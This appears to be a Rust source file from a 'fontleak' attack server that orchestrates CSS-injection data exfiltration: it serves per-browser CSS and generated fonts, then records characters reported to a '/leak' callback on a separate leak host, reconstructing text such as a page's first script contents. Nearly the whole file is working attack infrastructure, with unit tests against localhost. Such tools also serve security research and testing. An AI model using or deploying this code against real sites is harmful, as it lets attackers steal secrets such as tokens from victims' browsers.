//! Implements the three-endpoint state machine of spec.md §4.5, independent
//! of axum's request/response types so it can be unit tested directly.

use std::sync::Arc;

use fontleak_core::css::{self, RenderContext};
use fontleak_core::{AlphabetModel, FontArtifact, FontBuilder, FontBuilderOptions, FontCache};

use crate::browser::Browser;
use crate::error::ApiError;
use crate::session::LeakSetup;
use crate::store::SessionStore;

/// What `GET /` should render, resolved from spec.md §4.5 step 3's
/// browser/staging dispatch.
pub enum StepResponse {
    Css(String),
    Font(FontArtifact),
    Empty,
}

pub struct LeakOrchestrator {
    pub store: Arc<SessionStore>,
    pub fonts: Arc<FontCache>,
    pub host: String,
    pub host_leak: String,
}

impl LeakOrchestrator {
    pub fn new(store: Arc<SessionStore>, fonts: Arc<FontCache>, host: String, host_leak: String) -> Self {
        Self {
            store,
            fonts,
            host,
            host_leak,
        }
    }

    /// `GET /` (spec.md §4.5's setup/step fetch).
    ///
    /// - `id`/`caller_step`: the session and step the caller already
    ///   observed, if any.
    /// - `staging`: Chrome's first request installs the staging template
    ///   instead of a real step.
    pub async fn handle_index(
        &self,
        id: Option<String>,
        caller_step: Option<usize>,
        staging: bool,
        browser: Browser,
        length: usize,
        setup: LeakSetup,
    ) -> Result<(String, StepResponse), ApiError> {
        if let Some(ref id) = id {
            if self.store.contains(id) {
                let should_wait = match caller_step {
                    None => true,
                    Some(caller) => {
                        let current = self.store.current_step(id).unwrap_or(0);
                        caller < current || caller == 0
                    }
                };
                if should_wait {
                    let known = caller_step.unwrap_or(0);
                    let timeout = setup.timeout;
                    let advanced = self.store.await_advance(id, known, timeout).await;
                    if !advanced {
                        return Ok((id.clone(), StepResponse::Empty));
                    }
                }
                let response = self.render_for_browser(id, browser, caller_step, staging, length)?;
                return Ok((id.clone(), response));
            }
        }

        let opts = FontBuilderOptions {
            alphabet: AlphabetModel::normalise(&setup.alphabet)?,
            idx_max: length,
            strip: setup.strip,
            prefix: Vec::new(),
            prefix_idx: false,
            offset: 0,
        };
        let font = self.build_font(&opts)?;
        let new_id = self
            .store
            .create_or_resume(id.as_deref(), browser, setup, font);
        let response = self.render_for_browser(&new_id, browser, caller_step, staging, length)?;
        Ok((new_id, response))
    }

    fn render_for_browser(
        &self,
        id: &str,
        browser: Browser,
        caller_step: Option<usize>,
        staging: bool,
        length: usize,
    ) -> Result<StepResponse, ApiError> {
        match browser {
            Browser::Chrome if staging => Ok(StepResponse::Css(css::render_staging(&RenderContext {
                id,
                step: 0,
                step_char: "",
                html_width: 0,
                font_path: "",
                width_containers: &[],
                leak_selector: "",
                host: &self.host,
                host_leak: &self.host_leak,
                browser: browser.as_str(),
                attr: "",
            }))),
            Browser::Chrome => self
                .store
                .with_session(id, |session| -> Result<StepResponse, ApiError> {
                    let alphabet = AlphabetModel::normalise(&session.setup.alphabet)?;
                    let n = alphabet.len() as u32;
                    let html_width = n + 1;
                    let containers = css::width_containers(n, html_width);
                    let step_char = step_char_escape(session.font.step_map.get(session.step).copied());
                    let ctx = RenderContext {
                        id,
                        step: session.step,
                        step_char: &step_char,
                        html_width,
                        font_path: &session.font.data_url,
                        width_containers: &containers,
                        leak_selector: &session.setup.selector,
                        host: &self.host,
                        host_leak: &self.host_leak,
                        browser: browser.as_str(),
                        attr: &session.setup.attr,
                    };
                    Ok(StepResponse::Css(css::render_dynamic_step(&ctx)))
                })
                .unwrap_or(Ok(StepResponse::Empty)),
            Browser::Firefox => self
                .store
                .with_session(id, |session| -> Result<StepResponse, ApiError> {
                    let alphabet = AlphabetModel::normalise(&session.setup.alphabet)?;
                    let n = alphabet.len() as u32;
                    let html_width = n + 1;
                    let containers = css::width_containers(n, html_width);
                    let step_chars: Vec<String> = session
                        .font
                        .step_map
                        .iter()
                        .map(|&cp| step_char_escape(Some(cp)))
                        .collect();
                    let ctx = RenderContext {
                        id,
                        step: session.step,
                        step_char: "",
                        html_width,
                        font_path: &session.font.data_url,
                        width_containers: &containers,
                        leak_selector: &session.setup.selector,
                        host: &self.host,
                        host_leak: &self.host_leak,
                        browser: browser.as_str(),
                        attr: &session.setup.attr,
                    };
                    Ok(StepResponse::Css(css::render_animation(&ctx, &step_chars)))
                })
                .unwrap_or(Ok(StepResponse::Empty)),
            Browser::Safari if caller_step.is_none() => self
                .store
                .with_session(id, |session| -> Result<StepResponse, ApiError> {
                    let font_paths = vec![session.font.data_url.clone()];
                    let ctx = RenderContext {
                        id,
                        step: session.step,
                        step_char: "",
                        html_width: 0,
                        font_path: &session.font.data_url,
                        width_containers: &[],
                        leak_selector: &session.setup.selector,
                        host: &self.host,
                        host_leak: &self.host_leak,
                        browser: browser.as_str(),
                        attr: &session.setup.attr,
                    };
                    Ok(StepResponse::Css(css::render_sfc(
                        &ctx,
                        &font_paths,
                        fontleak_core::font::LEAK_PUA_BASE,
                    )))
                })
                .unwrap_or(Ok(StepResponse::Empty)),
            Browser::Safari => {
                let step = caller_step.unwrap();
                self.store
                    .with_session(id, |session| -> Result<StepResponse, ApiError> {
                        let alphabet_size = AlphabetModel::normalise(&session.setup.alphabet)?.len();
                        let combined_prefix: Vec<char> = session
                            .prefix
                            .chars()
                            .chain(session.reconstruction.chars())
                            .collect();
                        let opts = FontBuilderOptions {
                            alphabet: AlphabetModel::normalise(&session.setup.alphabet)?,
                            idx_max: 1,
                            strip: session.setup.strip,
                            prefix: combined_prefix,
                            prefix_idx: true,
                            offset: step * (alphabet_size + 1),
                        };
                        let font = FontBuilder::generate(&opts)?;
                        Ok(StepResponse::Font(font))
                    })
                    .unwrap_or(Ok(StepResponse::Empty))
            }
            Browser::All => self
                .store
                .with_session(id, |session| -> Result<StepResponse, ApiError> {
                    let alphabet = AlphabetModel::normalise(&session.setup.alphabet)?;
                    let n = alphabet.len() as u32;
                    let html_width = n + 2;
                    let containers = css::width_containers(n, html_width);
                    let step_chars: Vec<String> = session
                        .font
                        .step_map
                        .iter()
                        .take(length)
                        .map(|&cp| step_char_escape(Some(cp)))
                        .collect();
                    let ctx = RenderContext {
                        id,
                        step: session.step,
                        step_char: "",
                        html_width,
                        font_path: &session.font.data_url,
                        width_containers: &containers,
                        leak_selector: &session.setup.selector,
                        host: &self.host,
                        host_leak: &self.host_leak,
                        browser: browser.as_str(),
                        attr: &session.setup.attr,
                    };
                    Ok(StepResponse::Css(css::render_static(&ctx, &step_chars)))
                })
                .unwrap_or(Ok(StepResponse::Empty)),
        }
    }

    /// `GET /leak` (spec.md §4.5's probe callback). Always succeeds from
    /// the HTTP layer's perspective — the 400/no-cache response is a fixed
    /// property of the route handler, not of this function's `Result`.
    pub fn handle_leak(&self, id: &str, idx: usize, step: Option<usize>) {
        let ch = self.store.with_session(id, |session| {
            let alphabet = AlphabetModel::normalise(&session.setup.alphabet)
                .unwrap_or_else(|_| AlphabetModel::normalise("").unwrap());
            alphabet
                .char_at(idx)
                .unwrap_or(fontleak_core::SENTINEL_CHAR)
        });
        if let Some(ch) = ch {
            self.store.record_leak(id, ch, step);
        } else {
            log::debug!("leak probe for unknown session {id}, ignored");
        }
    }

    fn build_font(&self, opts: &FontBuilderOptions) -> Result<FontArtifact, ApiError> {
        let cache = &self.fonts;
        let opts_clone = opts.clone();
        let mut build_err = None;
        let artifact = cache.get_or_build(opts, || match FontBuilder::generate(&opts_clone) {
            Ok(artifact) => Arc::new(artifact),
            Err(err) => {
                build_err = Some(err);
                Arc::new(FontArtifact {
                    data_url: String::new(),
                    step_map: Vec::new(),
                })
            }
        });
        if let Some(err) = build_err {
            return Err(ApiError::Font(err));
        }
        Ok(FontArtifact {
            data_url: artifact.data_url.clone(),
            step_map: artifact.step_map.clone(),
        })
    }
}

/// Renders a step-map codepoint as the CSS `content` unicode escape
/// `\{hex}` the original generator emits (`fontgen`/`cssgen` step_char
/// field). Defaults to the sentinel codepoint's own escape when no step
/// remains in the map.
fn step_char_escape(codepoint: Option<u32>) -> String {
    format!("\\{:x}", codepoint.unwrap_or(fontleak_core::SENTINEL_CHAR as u32))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn setup() -> LeakSetup {
        LeakSetup {
            selector: "script:first-of-type".into(),
            parent: "body".into(),
            alphabet: "ab".into(),
            attr: "textContent".into(),
            strip: false,
            timeout: Duration::from_millis(50),
        }
    }

    fn orchestrator() -> LeakOrchestrator {
        LeakOrchestrator::new(
            Arc::new(SessionStore::new()),
            Arc::new(FontCache::new()),
            "http://localhost:4242".into(),
            "http://127.0.0.1:4242".into(),
        )
    }

    #[tokio::test]
    async fn first_request_creates_a_session() {
        let orch = orchestrator();
        let (id, _resp) = orch
            .handle_index(None, None, true, Browser::Chrome, 10, setup())
            .await
            .unwrap();
        assert!(orch.store.contains(&id));
    }

    #[tokio::test]
    async fn leak_probe_advances_reconstruction() {
        let orch = orchestrator();
        let (id, _) = orch
            .handle_index(None, None, true, Browser::Chrome, 10, setup())
            .await
            .unwrap();
        orch.handle_leak(&id, 0, None);
        orch.store.with_session(&id, |s| assert_eq!(s.reconstruction, "a"));
    }

    #[tokio::test]
    async fn unknown_session_leak_probe_is_a_silent_no_op() {
        let orch = orchestrator();
        orch.handle_leak("does-not-exist", 0, None);
    }

    #[tokio::test]
    async fn unknown_session_index_request_yields_empty_step_response() {
        let orch = orchestrator();
        let result = orch
            .handle_index(
                Some("does-not-exist".into()),
                None,
                false,
                Browser::Chrome,
                10,
                setup(),
            )
            .await;
        // `id` isn't in the store, so `handle_index` falls through to the
        // create branch instead of `render_for_browser`'s unknown-session
        // path; exercise that path directly.
        assert!(result.is_ok());

        let response = orch.render_for_browser("does-not-exist", Browser::Chrome, None, false, 10);
        assert!(matches!(response, Ok(StepResponse::Empty)));
    }
}
